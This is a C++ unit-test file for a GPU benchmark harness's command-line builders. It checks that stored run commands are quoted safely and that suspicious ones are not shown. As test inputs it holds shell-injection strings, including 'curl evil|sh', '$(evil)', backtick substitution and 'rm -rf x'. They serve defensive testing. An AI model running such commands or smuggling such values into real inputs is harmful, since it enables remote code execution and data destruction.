// SPDX-License-Identifier: Apache-2.0
#include "harness/campaign/row_command.h"

#include <gtest/gtest.h>

namespace moegate {
namespace {

RunOptions one_row() {
  RunOptions options;
  options.suites = {"./my suite.suite"};
  options.axes = {{"tokens", {"1", "8"}}};
  options.filter = "^moe_sum/tokens=8$";
  options.kernel = "^it's$";
  options.worker.device = "cuda";
  return options;
}

TEST(RowCommand, ARunStatesWhatShapesTheMeasurement) {
  RunOptions options = one_row();
  options.rounds = 5;
  options.worker.conditions.flush = Flush::write;
  options.worker.sampling = {
      .min_samples = 10, .max_samples = 20, .precision = 0.01, .budget_s = 0.25};
  EXPECT_EQ(
      run_command(options),
      "moegate run --suite './my suite.suite' --axis tokens=1,8 --filter '^moe_sum/tokens=8$' "
      "--variant '^it'\\''s$' --device cuda --timer auto --flush write --flush-factor 2 "
      "--rounds 5 --min-samples 10 --max-samples 20 --precision 1 --budget 0.25s "
      "--db results.sqlite");
}

TEST(RowCommand, AShardIsRunLikeTheOthers) {
  EXPECT_EQ(
      shard_command("moegate run --suite a --shard slurm --campaign c --db 'my files/1.db'", 3, 8),
      "moegate run --suite a --shard 3/8 --campaign c --db FILE");
  EXPECT_EQ(shard_command("moegate run --shard=1/8 --suite a", 3, 8),
            "moegate run --shard 3/8 --suite a --db FILE");
}

TEST(RowCommand, AStoreDoesNotSayWhatIsTyped) {
  RunInfo run;
  run.shards = 2;
  run.campaign = "c";
  run.task = "measure";
  RunOptions options;
  options.suites = {"smoke; evil"};
  options.shard = 1;
  options.shards = 2;
  run.options = options.to_json();
  for (const char* command : {"moegate run; curl evil|sh",
                              "moegate run --shard slurm --campaign c --db shard-1.sqlite"}) {
    run.command = command;
    const std::string text = repeat_command(run, "my files/r.db");
    EXPECT_TRUE(text.starts_with("moegate run --suite 'smoke; evil' --device auto ")) << text;
    EXPECT_TRUE(text.ends_with(" --db 'my files/r.db'")) << text;
    EXPECT_EQ(text.find("--shard"), std::string::npos) << "a campaign is repeated as a whole";
  }
  EXPECT_EQ(absent_shard_command(run, 2), "moegate run --shard 2/2 --campaign c --db FILE");
  run.command = "moegate run `evil`";
  EXPECT_TRUE(absent_shard_command(run, 2).ends_with(" --campaign c --shard 2/2"))
      << absent_shard_command(run, 2);
  EXPECT_EQ(absent_shard_command(run, 2).find("evil`"), std::string::npos);
}

TEST(RowCommand, WhatNoOptionsSayIsShownIfItIsPlain) {
  RunInfo run;
  run.tags["ab"] = "1";
  const auto shown = [&](const std::string& command) {
    run.command = command;
    return repeat_command(run, "r.db");
  };
  for (const char* plain :
       {"moegate ab --variant a --filter 'x; y' --label it\\''s'", "ci/ab origin/main"})
    EXPECT_EQ(shown(plain), plain);
  for (const char* evil :
       {"moegate ab; evil", "moegate ab | evil", "moegate ab $(evil)", "moegate ab `evil`",
        "moegate ab > x", "moegate ab & evil", "moegate ab 'open", "moegate ab\nevil",
        "moegate ab \"$(evil)\"", "moegate ab \\; evil", "evil moegate", "rm -rf x"})
    EXPECT_EQ(shown(evil), "") << evil;
}

TEST(RowCommand, OptionsThatAreUnsetAreNotNamed) {
  RunOptions options;
  options.suites = {"a", "b"};
  EXPECT_EQ(nsys_command(options, "r"),
            "nsys profile --trace=cuda,nvtx --sample=none --cpuctxsw=none --force-overwrite=true "
            "--output=r moegate run --suite a --suite b --device auto --profile");
}

TEST(RowCommand, NsightComputeSeesTheLaunchesAlone) {
  const std::string command = ncu_command(one_row(), Cache::cold, "row 17");
  EXPECT_EQ(command.rfind("ncu --target-processes all --nvtx --nvtx-include moegate/ ", 0), 0u)
      << command;
  EXPECT_NE(command.find(" --clock-control none --cache-control all "), std::string::npos);
  EXPECT_NE(command.find(" --export 'row 17' moegate run --suite "), std::string::npos) << command;
  EXPECT_TRUE(command.ends_with(" --profile")) << command;
  EXPECT_EQ(command.find("--db"), std::string::npos) << "it stores nothing";
}

TEST(RowCommand, AWarmCaseKeepsItsCaches) {
  EXPECT_NE(ncu_command(one_row(), Cache::warm, "r").find(" --cache-control none "),
            std::string::npos);
}

}  // namespace
}  // namespace moegate
